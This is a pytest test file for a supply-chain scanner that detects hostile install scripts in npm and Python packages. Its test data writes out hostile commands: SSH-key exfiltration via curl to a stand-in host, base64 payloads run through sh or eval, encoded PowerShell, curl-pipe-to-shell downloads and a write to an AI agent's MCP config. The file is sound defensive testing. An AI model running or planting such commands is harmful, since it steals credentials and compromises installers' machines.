"""Scripts that run on installation: hostile ones, downloads, and the many that mean no harm."""

from __future__ import annotations

import pytest

from analyze.supply_facts import effect, found, from_source, rules, text
from ostiary.analyze.dataflow.effect import EffectKind
from ostiary.analyze.dataflow.value import SourceKind
from ostiary.analyze.rules.supply.command_words import Doing, doings, files_run
from ostiary.model.grade import Persona, Severity


def package(event: str, command: str, **more: str) -> dict[str, object]:
    scripts = {event: command, **more}
    return {"package.json": {"name": "a-server", "license": "MIT", "scripts": scripts}}


HOSTILE = [
    "echo aGkK | base64 -d | sh",
    "node -e \"eval(Buffer.from('aGk=','base64').toString())\"",
    "python3 -c \"exec(__import__('base64').b64decode('aGk='))\"",
    "cat ~/.ssh/id_rsa | curl -d @- https://x.example",
    "echo '{}' > ~/.cursor/mcp.json",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AA==",
]
FETCHING = [
    "curl -sL https://x.example/i.sh | bash",
    "wget https://x.example/a && chmod +x a && ./a",
    'bash -c "$(curl -fsSL https://x.example/i.sh)"',
    "sh <(curl https://x.example/i.sh)",
    "npx https://x.example/a.tgz",
    "iex (iwr https://x.example/a.ps1)",
    (
        "node -e \"require('https').get('https://x.example/s.js',r=>{let d='';r.on('data',c=>d+=c);"
        "r.on('end',()=>eval(d))})\""
    ),
    "node -e \"fetch('https://x.example/s').then(r=>r.text()).then(t=>new Function(t)())\"",
    (
        "python3 -c \"import urllib.request as u,os;u.urlretrieve('https://x.example/a','/tmp/a');"
        "os.system('/tmp/a')\""
    ),
]
QUIET = [
    "husky",
    "husky install || true",
    "echo Thank you for installing",
    "patch-package",
    "is-ci || husky",
]
PLAIN = [
    "node-gyp rebuild",
    "prebuild-install || node-gyp rebuild",
    "npm run build",
    "tsc -p .",
    "playwright install chromium",
    "node scripts/none.js",
    "node -e \"require('child_process').execSync('npm run build')\"",
]


@pytest.mark.proves("SC-02", "MS-24")
@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_commands(command: str) -> None:
    (one,) = found(package("postinstall", command))
    assert one.rule == "install-script-hostile"
    assert one.severity >= Severity.HIGH
    assert "CWE-506" in one.references


@pytest.mark.parametrize("command", FETCHING)
def test_commands_that_download_and_run(command: str) -> None:
    assert rules(package("postinstall", command)) == ["install-script-fetch"]


@pytest.mark.parametrize("command", QUIET)
def test_the_authors_own_tools_are_left_alone(command: str) -> None:
    assert rules(package("postinstall", command)) == []


@pytest.mark.parametrize("command", PLAIN)
def test_builds_are_told_to_strict_readers(command: str) -> None:
    (one,) = found(package("install", command, build="tsc"))
    assert (one.rule, one.severity, one.persona) == (
        "install-script",
        Severity.LOW,
        Persona.STRICT,
    )


@pytest.mark.parametrize("command", [*HOSTILE, *FETCHING])
def test_scripts_that_nothing_runs_by_itself_are_left_alone(command: str) -> None:
    assert rules(package("deploy", command)) == []


def test_scripts_for_checkouts_are_no_install_scripts() -> None:
    assert rules(package("prepare", "npm run build", build="tsc")) == []


def test_a_script_that_runs_another_script_is_followed() -> None:
    files = package("postinstall", "npm run setup", setup="curl https://x.example/i | sh")
    assert rules(files) == ["install-script-fetch"]


def test_a_file_that_runs_what_it_downloaded_is_shown_at_its_line() -> None:
    files = package("postinstall", "node scripts/setup.js")
    files["scripts/setup.js"] = "require('./more')\n"
    files["scripts/more.js"] = "…"
    (one,) = found(
        files,
        effect(EffectKind.REQUEST, "scripts/more.js", 3, "https.get", url=text("https://x")),
        effect(EffectKind.PROCESS, "scripts/more.js", 9, program=from_source(SourceKind.REMOTE)),
    )
    assert (one.rule, one.location.file, one.location.line) == (
        "install-script-fetch",
        "scripts/more.js",
        9,
    )
    assert one.evidence[0].location.file == "package.json"


def test_a_download_beside_a_run_is_one_and_a_digest_makes_it_weigh_less() -> None:
    files = package("postinstall", "node setup.js")
    files["setup.js"] = "…"
    both = (
        effect(EffectKind.REQUEST, "setup.js", 3),
        effect(EffectKind.SHELL, "setup.js", 9, command=text("./bin/x")),
    )
    (one,) = found(files, *both)
    assert (one.rule, one.severity) == ("install-script-fetch", Severity.HIGH)
    (checked,) = found(files, *both, effect(EffectKind.HASH, "setup.js", 5))
    assert checked.severity is Severity.MEDIUM
    (only,) = found(files, both[0])
    assert only.severity is Severity.MEDIUM


def test_effects_of_files_that_the_script_does_not_run_do_not_count() -> None:
    files = package("postinstall", "node setup.js")
    files["setup.js"] = files["index.js"] = "…"
    sends = effect(EffectKind.REQUEST, "index.js", 1, body=from_source(SourceKind.SECRET, "K"))
    assert rules(files, sends) == ["install-script"]


@pytest.mark.parametrize(
    ("kind", "name"),
    [(SourceKind.SECRET, "~/.npmrc"), (SourceKind.ENVIRONMENT, "*"), (SourceKind.FILE, "x")],
)
def test_a_file_that_sends_secrets_away_is_hostile(kind: SourceKind, name: str) -> None:
    files = package("preinstall", "node setup.js")
    files["setup.js"] = "…"
    sends = effect(EffectKind.REQUEST, "setup.js", 4, body=from_source(kind, name))
    (one,) = found(files, sends)
    assert (one.rule, one.severity, one.location.line) == (
        "install-script-hostile",
        Severity.CRITICAL,
        4,
    )


def test_a_token_in_a_header_and_a_version_in_an_address_send_nothing_private() -> None:
    files = package("postinstall", "node setup.js")
    files["setup.js"] = "…"
    sends = effect(
        EffectKind.REQUEST,
        "setup.js",
        4,
        url=from_source(SourceKind.FILE, "package.json"),
        headers=from_source(SourceKind.SECRET, "TOKEN"),
        body=from_source(SourceKind.ENVIRONMENT, "npm_config_proxy"),
    )
    assert rules(files, sends) == ["install-script-fetch"]


def test_hidden_text_that_is_run_and_agent_files_that_are_written_are_hostile() -> None:
    files = package("postinstall", "node setup.js")
    files["setup.js"] = "…"
    hidden = (effect(EffectKind.DECODE, "setup.js", 2), effect(EffectKind.EVALUATE, "setup.js", 3))
    writes = effect(EffectKind.WRITE_FILE, "setup.js", 3, path=text("/h/.cursor/mcp.json"))
    assert rules(files, *hidden) == ["install-script-hostile"]
    assert rules(files, writes) == ["install-script-hostile"]
    plain = effect(EffectKind.WRITE_FILE, "setup.js", 3, path=text("build/themes.json"))
    assert rules(files, plain) == ["install-script"]


def test_setup_py_that_fetches_and_runs() -> None:
    files: dict[str, object] = {
        "setup.py": "from setuptools import setup\nsetup(name='p', cmdclass={'install': X})\n"
    }
    assert rules(files) == ["install-script"]
    both = (effect(EffectKind.REQUEST, "setup.py", 12), effect(EffectKind.PROCESS, "setup.py", 13))
    heard = [one for one in found(files, *both) if one.rule == "install-script-fetch"]
    assert {one.location.line for one in heard} == {13}
    assert rules({"setup.py": "from setuptools import setup\nsetup(name='p')\n"}) == []


def test_a_build_back_end_inside_the_package_is_followed() -> None:
    files: dict[str, object] = {
        "pyproject.toml": '[build-system]\nbuild-backend = "own"\nbackend-path = ["tools"]\n',
        "tools/own.py": "…",
    }
    evil = (
        effect(EffectKind.REQUEST, "tools/own.py", 2),
        effect(EffectKind.SHELL, "tools/own.py", 3),
    )
    assert rules(files, *evil) == ["install-script-fetch"]
    assert rules(files) == ["install-script"]


def test_a_shell_script_is_read_line_by_line() -> None:
    files = package("postinstall", "sh setup.sh")
    files["setup.sh"] = "#!/bin/sh\nset -e\ncurl -s https://x.example/a | sh\n"
    (one,) = found(files)
    assert (one.rule, one.location.file, one.location.line) == (
        "install-script-fetch",
        "setup.sh",
        3,
    )


def test_commands_name_the_files_they_run() -> None:
    assert files_run("node ./scripts/a.js && sh b.sh || python3 -u tools/c.py") == (
        "./scripts/a.js",
        "b.sh",
        "tools/c.py",
    )
    assert files_run("echo done") == ()
    assert files_run("FAST=1 ./a.sh && sudo b.py") == ("./a.sh", "b.py")


def test_a_file_that_is_only_handled_is_not_run() -> None:
    for command in ("chmod +x dist/index.js", "cp a.js b.js", "shx rm -f build/a.js", "cat a.sh"):
        assert files_run(command) == ()
    files = package("postinstall", "tsc && chmod +x index.js")
    files["index.js"] = "fetch(address);\n"
    assert rules(files) == ["install-script"]


def test_a_script_for_checkouts_weighs_less_than_one_of_installations() -> None:
    files = package("postinstall", "curl -O https://x.example/a.bin")
    (always,) = found(files)
    (sometimes,) = found(package("prepare", "curl -O https://x.example/a.bin"))
    assert (always.severity, sometimes.severity) == (Severity.MEDIUM, Severity.LOW)


def test_long_and_odd_commands_end() -> None:
    assert doings("curl " * 100_000) == (Doing.OTHER,)
    assert doings("\udcff | sh")
    assert files_run("node " + "--x " * 2000) == ()
    assert files_run("node " + "a/" * 4000) == ()


def test_secrets_in_commands_are_not_printed() -> None:
    token = "ghp_" + "a1B2" * 9
    files = package(
        "postinstall", f"curl -H 'Authorization: Bearer {token}' https://x.example | sh"
    )
    (one,) = found(files)
    assert token not in repr(one)


SETUP = """from setuptools import setup
import subprocess, urllib.request
class Install(object):
    def run(self):
        answer = urllib.request.urlopen("https://x.example/a.sh")
        # a comment
        subprocess.run(["sh"], input=answer.read())
setup(name="p", cmdclass={"install": Install})
"""


def test_files_of_the_build_that_no_front_end_read_are_told_by_their_calls() -> None:
    (one,) = [each for each in found({"setup.py": SETUP}) if each.rule != "licence-unclear"]
    assert (one.rule, one.severity, one.location.line) == (
        "install-script-fetch",
        Severity.HIGH,
        7,
    )
    quiet = SETUP.replace("urllib.request.urlopen", "print").replace("subprocess.run", "print")
    assert rules({"setup.py": quiet}) == ["install-script"]
    said = 'from setuptools import setup\nDOC = "subprocess.run(urlopen(1))"\nsetup(name="p")\n'
    assert rules({"setup.py": said}) == []
    hidden = (
        "import base64\nexec(base64.b64decode('aGk='))\nfrom setuptools import setup\nsetup()\n"
    )
    (evil,) = found({"setup.py": hidden})
    assert (evil.rule, evil.location.line) == ("install-script-hostile", 2)


def test_scripts_of_the_build_that_no_front_end_read() -> None:
    files = package("postinstall", "node setup.js")
    files["setup.js"] = "// fetch(1)\nhttps.get(url, (a) => {\n  execFileSync(file);\n});\n"
    (one,) = found(files)
    assert (one.rule, one.location.line) == ("install-script-fetch", 3)
    files["setup.js"] = "// fetch(1)\nfs.writeFileSync(a, b);\n"
    assert rules(files) == ["install-script"]
